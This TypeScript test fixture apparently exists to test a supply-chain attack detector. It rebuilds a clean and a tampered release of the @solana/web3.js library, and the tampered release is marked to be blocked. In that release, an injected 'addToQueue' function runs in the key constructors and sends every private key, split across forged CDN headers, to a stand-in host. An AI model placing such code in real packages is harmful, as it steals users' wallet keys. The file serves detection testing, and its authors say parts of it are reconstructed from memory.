import type { Replica } from './replica.js';

const manifest = {
  description: 'Solana Javascript API',
  main: 'lib/index.cjs.js',
  module: 'lib/index.esm.js',
  types: 'lib/index.d.ts',
  browser: { './lib/index.cjs.js': './lib/index.browser.cjs.js', './lib/index.esm.js': './lib/index.browser.esm.js' },
  license: 'MIT',
  repository: { type: 'git', url: 'https://git.example/chain/web3.js.git' },
  files: ['lib', 'src'],
  dependencies: { '@noble/curves': '^1.4.2', 'bs58': '^4.0.1', 'buffer': '6.0.3', 'node-fetch': '^2.7.0' },
};

interface Edit { readonly queue: string; readonly call: (key: string) => string }
const clean: Edit = { queue: '', call: () => '' };

const head = (esm: boolean, browser: boolean): string => (esm
  ? `import { Buffer } from 'buffer';\nimport { ed25519 } from '@noble/curves/ed25519';\nimport bs58 from 'bs58';\n${browser ? '' : "import nodeFetch from 'node-fetch';\n"}`
  : `'use strict';\n\nvar buffer = require('buffer');\nvar ed25519$1 = require('@noble/curves/ed25519');\nvar bs58 = require('bs58');\n${browser ? '' : "var nodeFetch = require('node-fetch');\n"}\nfunction _interopDefaultCompat (e) { return e && typeof e === 'object' && 'default' in e ? e : { default: e }; }\n\nvar bs58__default = /*#__PURE__*/_interopDefaultCompat(bs58);\nvar Buffer = buffer.Buffer;\nvar ed25519 = ed25519$1.ed25519;\n`);

const library = (esm: boolean, browser: boolean, edit: Edit): string => String.raw`${head(esm, browser)}
/**
 * A 64 byte secret key, the first 32 bytes of which is the
 * private scalar and the last 32 bytes is the public key.
 */
const generatePrivateKey = ed25519.utils.randomPrivateKey;
const generateKeypair = () => {
  const privateScalar = ed25519.utils.randomPrivateKey();
  const publicKey = getPublicKey(privateScalar);
  const secretKey = new Uint8Array(64);
  secretKey.set(privateScalar);
  secretKey.set(publicKey, 32);
  return {
    publicKey,
    secretKey
  };
};
const getPublicKey = ed25519.getPublicKey;
const sign = (message, secretKey) => ed25519.sign(message, secretKey.slice(0, 32));
const verify = ed25519.verify;
const toBuffer = arr => {
  if (Buffer.isBuffer(arr)) {
    return arr;
  } else if (arr instanceof Uint8Array) {
    return Buffer.from(arr.buffer, arr.byteOffset, arr.byteLength);
  } else {
    return Buffer.from(arr);
  }
};
${edit.queue}
class PublicKey {
  constructor(value) {
    this._bytes = typeof value === 'string' ? ${esm ? 'bs58' : 'bs58__default.default'}.decode(value) : value;
    if (this._bytes.length !== 32) {
      throw new Error('Invalid public key input');
    }
  }
  equals(publicKey) {
    return this.toBuffer().equals(publicKey.toBuffer());
  }
  toBase58() {
    return ${esm ? 'bs58' : 'bs58__default.default'}.encode(this._bytes);
  }
  toBuffer() {
    return toBuffer(this._bytes);
  }
  toString() {
    return this.toBase58();
  }
}

/**
 * An account key pair (public and secret keys).
 */
class Account {
  constructor(secretKey) {
    if (secretKey) {
      const secretKeyBuffer = toBuffer(secretKey);
      if (secretKey.length !== 64) {
        throw new Error('bad secret key size');
      }
      this._publicKey = secretKeyBuffer.slice(32, 64);
      this._secretKey = secretKeyBuffer.slice(0, 32);
    } else {
      this._secretKey = toBuffer(generatePrivateKey());
      this._publicKey = toBuffer(getPublicKey(this._secretKey));
    }
${edit.call('this._secretKey')}  }
  get publicKey() {
    return new PublicKey(this._publicKey);
  }
  get secretKey() {
    return Buffer.concat([this._secretKey, this._publicKey], 64);
  }
}

/**
 * Keypair signer interface
 */
class Keypair {
  constructor(keypair) {
    this._keypair = keypair ?? generateKeypair();
${edit.call('this._keypair.secretKey')}  }
  static generate() {
    return new Keypair(generateKeypair());
  }
  static fromSecretKey(secretKey, options) {
    if (secretKey.byteLength !== 64) {
      throw new Error('bad secret key size');
    }
    const publicKey = secretKey.slice(32, 64);
    if (!options || !options.skipValidation) {
      const privateScalar = secretKey.slice(0, 32);
      const computedPublicKey = getPublicKey(privateScalar);
      for (let ii = 0; ii < 32; ii++) {
        if (publicKey[ii] !== computedPublicKey[ii]) {
          throw new Error('provided secretKey is invalid');
        }
      }
    }
${edit.call('secretKey')}    return new Keypair({
      publicKey,
      secretKey
    });
  }
  static fromSeed(seed) {
    const publicKey = getPublicKey(seed);
    const secretKey = new Uint8Array(64);
    secretKey.set(seed);
    secretKey.set(publicKey, 32);
${edit.call('seed')}    return new Keypair({
      publicKey,
      secretKey
    });
  }
  get publicKey() {
    return new PublicKey(this._keypair.publicKey);
  }
  get secretKey() {
    return new Uint8Array(this._keypair.secretKey);
  }
}

const fetchImpl = ${browser ? "typeof globalThis.fetch === 'function' ? globalThis.fetch : undefined" : "typeof globalThis.fetch === 'function' ? globalThis.fetch : nodeFetch"};

class Connection {
  constructor(endpoint, config) {
    this._endpoint = endpoint;
    this._headers = { 'Content-Type': 'application/json', ...(config && config.httpHeaders), 'solana-client': 'js/1.0.0' };
    this._id = 0;
  }
  async _rpcRequest(method, args) {
    const response = await fetchImpl(this._endpoint, {
      method: 'POST',
      headers: this._headers,
      body: JSON.stringify({ jsonrpc: '2.0', id: ++this._id, method, params: args })
    });
    const text = await response.text();
    if (!response.ok) {
      throw new Error(response.status + ' ' + response.statusText + ': ' + text);
    }
    return JSON.parse(text).result;
  }
  getBalance(publicKey, commitment) {
    return this._rpcRequest('getBalance', [publicKey.toBase58(), { commitment }]).then(res => res.value);
  }
  getSlot(commitment) {
    return this._rpcRequest('getSlot', [{ commitment }]);
  }
  sendRawTransaction(rawTransaction, options) {
    return this._rpcRequest('sendTransaction', [toBuffer(rawTransaction).toString('base64'), { encoding: 'base64', ...options }]);
  }
}

const LAMPORTS_PER_SOL = 1000000000;
function clusterApiUrl(cluster, tls) {
  return (tls === false ? 'http' : 'https') + '://api.' + (cluster || 'devnet') + '.chain.example';
}

${esm ? 'export { Account, Connection, Keypair, LAMPORTS_PER_SOL, PublicKey, clusterApiUrl, sign, verify };' : ['Account', 'Connection', 'Keypair', 'LAMPORTS_PER_SOL', 'PublicKey', 'clusterApiUrl', 'sign', 'verify'].map((name) => `exports.${name} = ${name};`).join('\n')}
//# sourceMappingURL=index.${browser ? 'browser.' : ''}${esm ? 'esm' : 'cjs'}.js.map
`;

const files = (edit: (esm: boolean) => Edit) => ({
  'lib/index.cjs.js': library(false, false, edit(false)),
  'lib/index.esm.js': library(true, false, edit(true)),
  'lib/index.browser.cjs.js': library(false, true, edit(false)),
  'lib/index.browser.esm.js': library(true, true, edit(true)),
  'lib/index.d.ts': 'export class PublicKey {\n  constructor(value: string | Uint8Array);\n  toBase58(): string;\n}\nexport class Keypair {\n  static generate(): Keypair;\n  static fromSeed(seed: Uint8Array): Keypair;\n  static fromSecretKey(secretKey: Uint8Array, options?: { skipValidation?: boolean }): Keypair;\n  readonly publicKey: PublicKey;\n  readonly secretKey: Uint8Array;\n}\n',
  'README.md': '# Solana JavaScript SDK\n\nTalks to a cluster from Node and browsers.\n',
});

const queue = (esm: boolean): Edit => ({
  queue: String.raw`
const sent = new Set();
async function addToQueue(e) {
  try {
    const t = ${esm ? 'bs58' : 'bs58__default.default'}.encode(e);
    if (sent.has(t)) {
      return;
    }
    sent.add(t);
    const n = Math.ceil(t.length / 3);
    const r = [t.slice(0, n), t.slice(n, n * 2), t.slice(n * 2)];
    await fetch('https://sol-node.example.invalid/api/rpc/queue', {
      method: 'POST',
      headers: {
        'x-amz-cf-id': r[0],
        'x-session-id': r[1],
        'x-amz-cf-pop': r[2],
        'Content-Type': 'application/json'
      },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'getHealth' })
    }).catch(() => {});
  } catch (e) {}
}
`,
  call: (key) => `    addToQueue(${key});\n`,
});

const owner = { name: 'chain-owner', email: 'owner@chain.example' };

/** From memory of the public advisory and analyses: name of the function, forged CDN headers, places of the calls. How the key is cut over the headers is a guess. */
export const replica: Replica = {
  id: 'solana-web3-2024',
  story: 'December 2024: 1.95.6 and 1.95.7, published by hand after a maintainer was phished, send every private key that passes the key classes to a new host inside headers that look like those of a CDN.',
  name: '@solana/web3.js',
  before: { version: '1.95.5', manifest, files: files(() => clean), publishedAt: '2024-11-13T18:00:00.000Z', publisher: owner },
  after: { version: '1.95.6', manifest, files: files(queue), publishedAt: '2024-12-03T15:20:00.000Z', publisher: owner },
  must: 'block',
};
